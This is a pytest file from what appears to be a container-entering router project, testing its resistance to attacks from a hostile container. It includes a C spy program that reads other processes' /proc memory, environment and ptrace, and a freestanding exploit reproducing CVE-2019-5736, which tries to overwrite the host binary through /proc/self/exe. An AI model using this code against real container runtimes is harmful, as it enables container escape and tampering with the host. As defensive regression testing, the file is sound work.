"""Attacks of a hostile container on a router that enters it, in real namespaces."""

from __future__ import annotations

import contextlib
import os
import re
import shutil
import stat
import struct
import subprocess
import sys
from collections.abc import Callable, Iterator, Sequence
from pathlib import Path

import pytest

from tests.jail.test_containers import family, session
from tests.jail.test_jail import entered, wanted
from tests.jail.test_namespaces import namespace
from tests.support.containers import container, mask
from tests.support.harness import Client, Router, eventually
from tests.support.jails import binds, said, small_root
from tests.support.peers import changed_syscall, need, need_root, preload

Start = Callable[..., Router]

# What Docker leaves to root of a container.
USUAL = mask(
    *("chown", "dac_override", "fowner", "fsetid", "kill", "setgid", "setuid", "setpcap", "net_bind_service"),
    *("net_raw", "sys_chroot", "mknod", "audit_write", "setfcap"),
)
PROC = "mount -t proc proc /proc"


@pytest.fixture
def path(directory: Path) -> str:
    directory.chmod(0o1777)
    return str(directory / "socket")


@pytest.fixture(autouse=True)
def _as_root() -> None:
    need_root()


def compiled(directory: Path, name: str, source: str, *flags: str) -> Path:
    (directory / f"{name}.c").write_text(source)
    subprocess.run([need("cc"), *flags, "-o", name, f"{name}.c"], cwd=directory, check=True)
    return directory / name


# Tries to look at each of the processes, and to trace them.
SPY = r"""
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <sys/ptrace.h>
#include <unistd.h>

int main(int count, char **pids)
{
    static const char *const names[] = { "environ", "maps", "mem", "exe", "fd/0", "cwd", "root", "map_files" };
    char path[64], text[256];
    for (int each = 1; each < count; each++) {
        for (unsigned index = 0; index < sizeof names / sizeof *names; index++) {
            snprintf(path, sizeof path, "/proc/%s/%s", pids[each], names[index]);
            int file = open(path, O_RDONLY | O_NONBLOCK);
            if ((file >= 0 && names[index][0] != 'm' && read(file, text, 1) >= 0) || readlink(path, text, 1) >= 0
                || (file >= 0 && names[index][0] == 'm' && read(file, text, 1) > 0))
                printf("GOT-%s-%s\n", pids[each], names[index]);
        }
        if (ptrace(PTRACE_SEIZE, atoi(pids[each]), 0, 0) == 0)
            printf("GOT-%s-trace\n", pids[each]);
    }
    puts("DONE");
}
"""


@pytest.mark.parametrize("mapped", [False, True])
@pytest.mark.parametrize("how", ["setns-pid", "setns"])
@pytest.mark.parametrize("asked", [(), ("--uid", "0"), ("--cap", "chown,kill")])
def test_a_session_in_a_container_cannot_read_or_trace_the_router(
    mapped: bool, how: str, asked: tuple[str, ...], start_router: Start, path: str, directory: Path
) -> None:
    if how == "setns" and not (mapped or "--cap" in asked):
        asked = (*asked, "--cap", "chown")  # without any confinement it is root of the host
    spy = compiled(directory, "spy", SPY)
    with container("mount", mapped=mapped, bounding=USUAL) as pid:
        place = str(pid) if how == "setns-pid" else f"/proc/{pid}/ns"
        router = start_router(f"--{how}", place, *asked, path, env={"SECRET": "host's"})
        processes = [router.process.pid, router.pid]
        assert said(path, f"{spy} {' '.join(map(str, processes))}") == ["DONE"]
        assert router.end() == 0


@pytest.mark.parametrize("how", ["setns-pid", "setns", "setns-file", "setns-server"])
def test_root_of_a_container_cannot_trace_the_router_on_its_way_in(how: str, path: str, directory: Path) -> None:
    """A hook stops the router between entering the namespaces and the change of user."""
    spy = compiled(directory, "spy", SPY)
    with container("mount", mapped=True) as pid:
        place = {"setns-pid": str(pid), "setns": f"/proc/{pid}/ns", "setns-file": f"/proc/{pid}/ns/user"}
        with serving(pid, directory) as server:
            router = Router(
                *(f"--{how.removesuffix('-file').removesuffix('-server')}", place.get(how, server)),
                *("--hook-pre-jail", "print:waiting", "--hook-pre-jail", "wait_for_fs:/none", "--uid", "0", path),
            )
            try:
                router.wait_for_log("waiting")
                ours = router.process.pid
                assert namespace(ours, "user") == namespace(pid, "user")
                status = Path(f"/proc/{ours}/status").read_text()
                assert re.search(
                    r"^Uid:\t200000\t200000\t200000\t200000\nGid:\t200000\t200000\t200000\t200000$", status, re.M
                )
                inside = ["nsenter", "-t", str(pid), "--user", "--mount", "-S", "0", "-G", "0", str(spy), str(ours)]
                assert subprocess.check_output(inside, text=True).split() == ["DONE"]
            finally:
                router.destroy()
                router.end()


# Serves the namespaces of a process as uWSGI does.
SERVER = """
import os, socket, struct, sys
where, pid = sys.argv[1:]
fds = [os.open(f"/proc/{pid}/ns/{name}", os.O_RDONLY) for name in ("user", "mnt")]
with socket.socket(socket.AF_UNIX) as listener:
    listener.bind(where)
    listener.listen()
    print("ready", flush=True)
    while True:
        socket.send_fds(listener.accept()[0], [b"uwsgi-setns" + struct.pack("i", len(fds))], fds)
"""


@contextlib.contextmanager
def serving(pid: int, directory: Path) -> Iterator[str]:
    where = f"{directory}/namespaces"
    argv = [sys.executable, "-c", SERVER, where, str(pid)]
    with subprocess.Popen(argv, stdout=subprocess.PIPE) as server:
        assert server.stdout is not None
        try:
            assert server.stdout.readline() == b"ready\n"
            yield where
        finally:
            server.kill()


# Is the loader that the kernel starts for `#!/proc/self/exe`, so that /proc/self/exe is the router's interpreter.
# Keeps a descriptor of that, becomes another program, leaves the session and tries to write to it.
HOSTILE = r"""
#include <errno.h>
#include <fcntl.h>
#include <sys/syscall.h>

#if defined(__x86_64__)
static long call(long number, long a, long b, long c, long d)
{
    long result;
    register long r10 __asm__("r10") = d;
    __asm__ volatile("syscall" : "=a"(result) : "a"(number), "D"(a), "S"(b), "d"(c), "r"(r10) : "rcx", "r11", "memory");
    return result;
}
__asm__(".globl _start\n_start: andq $-16, %rsp\n call attack\n");
#elif defined(__aarch64__)
static long call(long number, long a, long b, long c, long d)
{
    register long x8 __asm__("x8") = number;
    register long x0 __asm__("x0") = a, x1 __asm__("x1") = b, x2 __asm__("x2") = c, x3 __asm__("x3") = d;
    __asm__ volatile("svc 0" : "+r"(x0) : "r"(x8), "r"(x1), "r"(x2), "r"(x3) : "memory");
    return x0;
}
__asm__(".globl _start\n_start: bl attack\n");
#endif

static void say(const char *path, const char *text, long size)
{
    long file = call(SYS_openat, AT_FDCWD, (long)path, O_WRONLY | O_CREAT, 0666);
    call(SYS_write, file, (long)text, size, 0);
    call(SYS_close, file, 0, 0, 0);
}

void attack(void)
{
    long ten_ms[2] = { 0, 10 * 1000 * 1000 };
    long held = call(SYS_openat, AT_FDCWD, (long)"/proc/self/fd/9", O_RDONLY, 0);
    if (held < 0) {
        held = call(SYS_openat, AT_FDCWD, (long)"/proc/self/exe", O_RDONLY, 0);
        call(SYS_dup3, held, 9, 0, 0);
        call(SYS_execve, (long)"/waiter", 0, 0, 0);
        call(SYS_exit, 1, 0, 0, 0);
    }
    if (call(SYS_clone, 17 /* SIGCHLD */, 0, 0, 0) > 0)
        for (;;)
            call(SYS_nanosleep, (long)ten_ms, 0, 0, 0);
    call(SYS_setsid, 0, 0, 0, 0);
    say("/taken", "taken", 5);
    for (;;) {
        long file = call(SYS_openat, AT_FDCWD, (long)"/proc/self/fd/9", O_WRONLY, 0);
        if (file >= 0)
            file = call(SYS_write, file, (long)"!", 1, 0);   // what is sealed can be opened
        if (file >= 0)
            say("/result", "written", 7);
        else if (file == -EROFS)
            say("/result", "EROFS", 5);
        else if (file == -EPERM)
            say("/result", "EPERM", 5);
        if (file != -ETXTBSY)
            call(SYS_exit, 0, 0, 0, 0);
        call(SYS_nanosleep, (long)ten_ms, 0, 0, 0);
    }
}
"""


PT_INTERP = 3


def loader_of(program: str) -> str:
    """Returns the path in a program's PT_INTERP header, its ELF interpreter (elf(5))."""
    data = Path(program).read_bytes()
    (table,) = struct.unpack_from("=Q", data, 32)
    size, count = struct.unpack_from("=HH", data, 54)
    for header in range(table, table + size * count, size):
        kind, _, start, _, _, length = struct.unpack_from("=IIQQQQ", data, header)
        if kind == PT_INTERP:
            return data[start : start + length].rstrip(b"\0").decode()
    raise AssertionError(f"{program} has no ELF interpreter")


def own_interpreter(directory: Path) -> tuple[Sequence[str], str]:
    """Copies Python, for this test's router alone. Returns arguments for Router's `program`, and the path."""
    copy = f"{directory}/{os.path.basename(os.path.realpath(sys.executable))}"
    shutil.copy(os.path.realpath(sys.executable), copy)
    paths = os.pathsep.join(["", *(each for each in sys.path if each)])
    environment = {"PYTHONHOME": f"{sys.base_prefix}:{sys.base_exec_prefix}", "PYTHONPATH": paths}
    code = f"""import os, sys
os.execve({copy!r}, [{copy!r}, "-m", "fastpty.router", *sys.argv[1:]], {{**os.environ, **{environment!r}}})"""
    return ("-c", code), copy


def hostile_root(root: Path, hostile: Path, interpreter: str) -> None:
    loader = Path(f"{root}{loader_of(interpreter)}")
    for each in (loader.parent, root / "bin", root / "proc", root / "dev"):
        each.mkdir(parents=True, exist_ok=True)
    shutil.copy(hostile, loader)
    shutil.copy(hostile, root / "waiter")
    (root / "bin" / "sh").write_text("#!/proc/self/exe\n")
    (root / "bin" / "sh").chmod(0o755)
    shutil.copy(hostile, root / "waiter")


@pytest.mark.parametrize("has_mounts", [True, False], ids=["mounts", "memory"])
def test_a_hostile_image_gets_no_way_to_write_to_the_interpreter(
    has_mounts: bool, start_router: Start, path: str, directory: Path, tmp_path: Path
) -> None:
    """CVE-2019-5736: /bin/sh is `#!/proc/self/exe`, and the loader keeps a descriptor until the router ends."""
    flags = ("-nostdlib", "-static-pie", "-O1", "-fno-stack-protector", "-fno-tree-vectorize", "-ffreestanding")
    hostile = compiled(tmp_path, "hostile", HOSTILE, *flags)
    program, interpreter = own_interpreter(tmp_path)
    root = tmp_path / "root"
    hostile_root(root, hostile, interpreter)
    commands = [f"mount --rbind /dev {root}/dev", f"mount -t proc proc {root}/proc"]
    # As a process that sleeps: this container has no other program.
    argv = ("/waiter-for-ever",)
    compiled(tmp_path, "sleeper", "#include <unistd.h>\nint main(void) { for (;;) pause(); }\n", "-static")
    shutil.copy(tmp_path / "sleeper", root / argv[0][1:])
    more = {} if has_mounts else preload(tmp_path, NO_MOUNTS)
    with container("pid", "mount", root=root, commands=commands, argv=argv) as pid:
        router = start_router("--setns-pid", str(pid), path, program=program, env=more)
        with Client(path):
            eventually((root / "taken").exists, "the image has a descriptor of the router's interpreter")
        assert router.end() == 0
        eventually((root / "result").exists, "it has tried to write to it")
    assert (root / "result").read_text() == ("EROFS" if has_mounts else "EPERM")


# A kernel without mount_setattr(2).
NO_MOUNTS = changed_syscall("if (number == 442) { errno = ENOSYS; return -1; }")


@pytest.mark.parametrize("how", ["setns-pid", "setns", "chroot", "pivot-root"])
def test_in_a_foreign_root_no_file_of_the_router_is_writable(
    how: str, start_router: Start, path: str, tmp_path: Path
) -> None:
    commands = [PROC]
    root = tmp_path / "root"
    small_root(root)
    with container("pid", "mount", commands=commands) as pid:
        ways = {
            "setns-pid": ["--setns-pid", str(pid)],
            "setns": ["--setns", f"/proc/{pid}/ns"],
            "chroot": ["--unshare", "mount", *binds(root), "--chroot", str(root)],
            "pivot-root": ["--unshare", "mount,pid", *binds(root), "--pivot-root", f"{root} {root}/old"],
        }
        router = start_router(*ways[how], path)
        with session(path):
            for each in family(router.process.pid)[:-1]:
                assert writable_files(each) == [], each
        assert router.end() == 0


def writable_files(pid: int) -> list[str]:
    """Returns the files that this process runs or has mapped, and that could be written to through /proc."""
    found = []
    for entry in [
        f"/proc/{pid}/exe",
        *(f"/proc/{pid}/map_files/{name}" for name in os.listdir(f"/proc/{pid}/map_files")),
    ]:
        try:
            is_file = stat.S_ISREG(os.stat(entry).st_mode) and not os.readlink(entry).endswith("(deleted)")
        except FileNotFoundError:
            continue
        if is_file and not os.statvfs(entry).f_flag & os.ST_RDONLY:
            found.append(os.readlink(entry))
    return found


def test_no_module_of_a_foreign_root_is_imported() -> None:
    """Module files in there would be the container's."""

    def look() -> str:
        import pydoc_data.topics

        return pydoc_data.topics.__name__

    with pytest.raises(AssertionError, match="ModuleNotFoundError"):
        entered(wanted(("chroot", "/")), look)
    assert entered(wanted(), look) == "pydoc_data.topics"
